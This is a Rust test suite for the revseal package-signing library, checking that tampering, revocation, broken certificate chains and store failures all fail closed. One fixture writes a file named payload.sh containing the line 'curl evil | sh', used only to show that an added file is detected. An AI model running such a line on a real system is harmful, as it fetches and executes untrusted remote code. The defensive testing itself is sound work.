/*
 *  Copyright 2025-2026 Colliery Software
 *
 *  Licensed under the Apache License, Version 2.0 (the "License");
 *  you may not use this file except in compliance with the License.
 *  You may obtain a copy of the License at
 *
 *      http://www.apache.org/licenses/LICENSE-2.0
 *
 *  Unless required by applicable law or agreed to in writing, software
 *  distributed under the License is distributed on an "AS IS" BASIS,
 *  WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 *  See the License for the specific language governing permissions and
 *  limitations under the License.
 */

//! Tamper, trust and revocation failures. Every one of these must fail
//! closed.

use async_trait::async_trait;
use chrono::{Duration, TimeZone, Utc};
use revseal::models::{properties, RevisionInfo};
use revseal::security::{
    ChainVerificationError, KeyError, LedgerError, PackageSignError, PackageSigner, PromptError,
    VerificationError,
};
use revseal::store::{InMemoryRevisionStore, RevisionStore, StoreError};
use revseal_testing::fixture::{key_alias_for, password_for, BRANCH};
use revseal_testing::pki::generate_key;
use revseal_testing::{Issued, SigningFixture};
use std::sync::{Arc, Mutex};
use tracing_subscriber::fmt::MakeWriter;
use tracing_subscriber::util::SubscriberInitExt;

async fn signed_fixture(files: &[(&str, &str)]) -> SigningFixture {
    let fixture = SigningFixture::new(files);
    fixture.prompt.push(password_for("alice"));
    fixture
        .signer("alice")
        .sign_package(None)
        .await
        .unwrap()
        .expect("package should be signed");
    fixture.record_change(BRANCH, "alice", Utc::now());
    fixture
}

async fn verify(fixture: &SigningFixture) -> Result<String, VerificationError> {
    fixture
        .verifier()
        .verify(BRANCH, fixture.source.path(), None)
        .await
}

#[tokio::test]
async fn test_deleted_file_is_merkle_mismatch() {
    let fixture = signed_fixture(&[("a.txt", "x"), ("b.txt", "y")]).await;
    fixture.source.remove("b.txt");

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::MerkleRootMismatch { .. })));
}

#[tokio::test]
async fn test_modified_byte_is_merkle_mismatch() {
    let fixture = signed_fixture(&[("a.txt", "hello"), ("b.txt", "world")]).await;
    fixture.source.write("a.txt", "hellp");

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::MerkleRootMismatch { .. })));
}

#[tokio::test]
async fn test_added_file_is_merkle_mismatch() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    fixture.source.write("payload.sh", "curl evil | sh");

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::MerkleRootMismatch { .. })));
}

#[cfg(unix)]
#[tokio::test]
async fn test_retargeted_symlink_is_merkle_mismatch() {
    let fixture = SigningFixture::new(&[
        ("a.txt", "x"),
        ("good.txt", "good"),
        ("evil.txt", "evil"),
    ]);
    fixture.source.symlink("link.txt", "good.txt");
    fixture.prompt.push(password_for("alice"));
    fixture
        .signer("alice")
        .sign_package(None)
        .await
        .unwrap()
        .expect("package should be signed");
    fixture.record_change(BRANCH, "alice", Utc::now());
    assert!(verify(&fixture).await.is_ok());

    fixture.source.symlink("link.txt", "evil.txt");

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::MerkleRootMismatch { .. })));
}

#[tokio::test]
async fn test_order_preserving_rename_is_detected() {
    let fixture = signed_fixture(&[("a.txt", "one"), ("b.txt", "two")]).await;
    fixture.source.rename("b.txt", "c.txt");

    let result = verify(&fixture).await;
    assert!(matches!(
        result,
        Err(VerificationError::InventoryMismatch { path }) if path == "b.txt"
    ));
}

#[tokio::test]
async fn test_tampered_signature_is_rejected() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    let signature = fixture.revisions.properties(BRANCH)[properties::SIGNATURE].clone();
    let mut raw = hex::decode(signature).unwrap();
    raw[0] ^= 0xff;
    fixture
        .revisions
        .set_property(BRANCH, properties::SIGNATURE, &hex::encode(raw))
        .await
        .unwrap();

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::InvalidSignature)));
}

#[tokio::test]
async fn test_swapped_root_fails_signature_check() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    fixture
        .revisions
        .set_property(BRANCH, properties::MERKLE_ROOT, &"0".repeat(64))
        .await
        .unwrap();

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::InvalidSignature)));
}

#[tokio::test]
async fn test_unsigned_revision_is_missing_property() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    fixture.record_change(BRANCH, "alice", Utc::now());

    let result = verify(&fixture).await;
    assert!(matches!(
        result,
        Err(VerificationError::MissingProperty(properties::MERKLE_ROOT))
    ));
}

#[tokio::test]
async fn test_unknown_last_author_has_no_certificate() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    fixture.record_change(BRANCH, "carol", Utc::now());

    let result = verify(&fixture).await;
    assert!(matches!(
        result,
        Err(VerificationError::CertificateNotFound(cn)) if cn == "carol.alice.apex"
    ));
}

#[tokio::test]
async fn test_signature_by_other_collaborator_is_rejected() {
    // Bob is recorded as the last author but Alice signed.
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    fixture.add_collaborator("bob", None);
    fixture.record_change(BRANCH, "bob", Utc::now());

    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::InvalidSignature)));
}

#[tokio::test]
async fn test_revoked_as_of_release_fails() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    let revoked_at = Utc.with_ymd_and_hms(2024, 6, 1, 0, 0, 0).unwrap();
    fixture.ledger.revoke("alice.apex", revoked_at);

    fixture.record_change(BRANCH, "alice", revoked_at + Duration::days(1));
    let result = verify(&fixture).await;
    assert!(matches!(result, Err(VerificationError::Revoked(cn)) if cn == "alice.apex"));

    // A release that predates the revocation still verifies.
    fixture.record_change(BRANCH, "alice", revoked_at - Duration::days(1));
    assert!(verify(&fixture).await.is_ok());

    let requests = fixture.ledger.requests();
    let last = requests.last().unwrap();
    assert_eq!(last.release_date, Some(revoked_at - Duration::days(1)));
}

#[tokio::test]
async fn test_unreachable_ledger_fails_closed() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    fixture.ledger.set_unavailable(true);

    let result = verify(&fixture).await;
    assert!(matches!(
        result,
        Err(VerificationError::Chain(ChainVerificationError::Ledger(
            LedgerError::Status(503)
        )))
    ));
}

#[tokio::test]
async fn test_untraceable_issuer_fails_closed() {
    let fixture = signed_fixture(&[("a.txt", "x")]).await;
    fixture.certificates.remove("ca.apex");

    let result = verify(&fixture).await;
    assert!(matches!(
        result,
        Err(VerificationError::Chain(ChainVerificationError::IssuerNotFound(cn))) if cn == "ca.apex"
    ));
}

#[tokio::test]
async fn test_signing_with_revoked_certificate_writes_nothing() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    fixture.prompt.push(password_for("alice"));
    fixture.ledger.revoke("alice.apex", Utc::now() - Duration::days(1));

    let signature = fixture.signer("alice").sign_package(None).await.unwrap();

    assert!(signature.is_none());
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

#[tokio::test]
async fn test_signing_without_certificate_writes_nothing() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    fixture.prompt.push(password_for("alice"));
    fixture.certificates.remove("alice.apex");

    let signature = fixture.signer("alice").sign_package(None).await.unwrap();

    assert!(signature.is_none());
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

#[tokio::test]
async fn test_signing_with_broken_chain_writes_nothing() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    fixture.prompt.push(password_for("alice"));
    let rogue = revseal_testing::pki::self_signed("ca.apex", None);
    fixture.certificates.insert("ca.apex", rogue.pem());

    let signature = fixture.signer("alice").sign_package(None).await.unwrap();

    assert!(signature.is_none());
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

#[tokio::test]
async fn test_signing_when_ledger_unreachable_is_an_error() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    fixture.prompt.push(password_for("alice"));
    fixture.ledger.set_unavailable(true);

    let result = fixture.signer("alice").sign_package(None).await;

    assert!(matches!(
        result,
        Err(PackageSignError::Chain(ChainVerificationError::Ledger(_)))
    ));
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

/// Revision store that refuses every write of one property.
struct RefusingStore {
    inner: Arc<InMemoryRevisionStore>,
    refused: &'static str,
}

#[async_trait]
impl RevisionStore for RefusingStore {
    async fn get_property(&self, target: &str, name: &str) -> Result<Option<String>, StoreError> {
        self.inner.get_property(target, name).await
    }

    async fn set_property(&self, target: &str, name: &str, value: &str) -> Result<(), StoreError> {
        if name == self.refused {
            return Err(StoreError::Backend(format!("write of {name} refused")));
        }
        self.inner.set_property(target, name, value).await
    }

    async fn remove_property(&self, target: &str, name: &str) -> Result<(), StoreError> {
        self.inner.remove_property(target, name).await
    }

    async fn current_branch(&self) -> Result<String, StoreError> {
        self.inner.current_branch().await
    }

    async fn info(&self, target: &str) -> Result<RevisionInfo, StoreError> {
        self.inner.info(target).await
    }
}

fn refusing_signer(fixture: &SigningFixture, refused: &'static str) -> PackageSigner {
    PackageSigner::new(
        fixture.package.clone(),
        fixture.account("alice"),
        fixture.source.path(),
        Arc::new(RefusingStore {
            inner: fixture.revisions.clone(),
            refused,
        }),
        fixture.keys.clone(),
        fixture.chain_verifier(),
        fixture.unlocker(),
    )
}

#[tokio::test]
async fn test_failed_metadata_write_leaves_target_unsigned() {
    let fixture = SigningFixture::new(&[("a.txt", "x"), ("b.txt", "y")]);
    fixture.prompt.push(password_for("alice"));

    let result = refusing_signer(&fixture, properties::SIGNATURE)
        .sign_package(None)
        .await;

    assert!(matches!(result, Err(PackageSignError::Store(_))));
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

#[tokio::test]
async fn test_failed_resign_restores_previous_revision() {
    let fixture = signed_fixture(&[("a.txt", "x"), ("b.txt", "y")]).await;
    let signed = fixture.revisions.properties(BRANCH);
    fixture.source.write("a.txt", "changed");

    let result = refusing_signer(&fixture, properties::PREV_MERKLE_ROOT)
        .sign_package(None)
        .await;

    assert!(matches!(result, Err(PackageSignError::Store(_))));
    assert_eq!(fixture.revisions.properties(BRANCH), signed);
    assert!(!signed.contains_key(properties::PREV_MERKLE_ROOT));

    // The old revision is intact and the next signing chains to it.
    fixture.source.write("a.txt", "x");
    assert!(verify(&fixture).await.is_ok());
    fixture.source.write("a.txt", "changed");
    fixture.signer("alice").sign_package(None).await.unwrap().unwrap();
    assert_eq!(
        fixture.revisions.properties(BRANCH)[properties::PREV_MERKLE_ROOT],
        signed[properties::MERKLE_ROOT]
    );
}

#[tokio::test]
async fn test_key_not_matching_certificate_is_rejected() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    let impostor = Issued {
        common_name: "alice.apex".to_string(),
        key: generate_key(),
        certificate: fixture.author.certificate.clone(),
    };
    fixture
        .keys
        .insert(impostor.plain_key(&key_alias_for("alice")));

    let result = fixture.signer("alice").sign_package(None).await;

    assert!(matches!(
        result,
        Err(PackageSignError::KeyCertificateMismatch(cn)) if cn == "alice.apex"
    ));
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

#[tokio::test]
async fn test_cancelled_prompt_aborts_signing() {
    let fixture = SigningFixture::new(&[("a.txt", "x")]);
    fixture.prompt.push("wrong");

    let result = fixture.signer("alice").sign_package(None).await;

    assert!(matches!(
        result,
        Err(PackageSignError::Key(KeyError::Prompt(PromptError::Cancelled)))
    ));
    assert_eq!(fixture.prompt.times_asked(), 2);
    assert!(fixture.revisions.properties(BRANCH).is_empty());
}

#[tokio::test]
async fn test_empty_package_cannot_be_signed() {
    let fixture = SigningFixture::new(&[(".env", "SECRET=1")]);
    fixture.prompt.push(password_for("alice"));

    let result = fixture.signer("alice").sign_package(None).await;

    assert!(matches!(result, Err(PackageSignError::Merkle(_))));
    assert_eq!(fixture.prompt.times_asked(), 0);
}

#[derive(Clone)]
struct StringWriter(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for StringWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for StringWriter {
    type Writer = StringWriter;

    fn make_writer(&'a self) -> Self::Writer {
        self.clone()
    }
}

/// Failures are audited with a reason and the expected signer.
#[tokio::test]
async fn test_failure_is_audited() {
    let fixture = signed_fixture(&[("a.txt", "x"), ("b.txt", "y")]).await;
    fixture.source.remove("b.txt");

    let buffer = Arc::new(Mutex::new(Vec::new()));
    let _guard = tracing_subscriber::fmt()
        .with_writer(StringWriter(buffer.clone()))
        .with_ansi(false)
        .finish()
        .set_default();

    assert!(verify(&fixture).await.is_err());

    let output = String::from_utf8(buffer.lock().unwrap().clone()).unwrap();
    assert!(output.contains("verification.failure"));
    assert!(output.contains("merkle_root_mismatch"));
    assert!(output.contains("alice.apex"));
    assert!(!output.contains(&password_for("alice")));
}
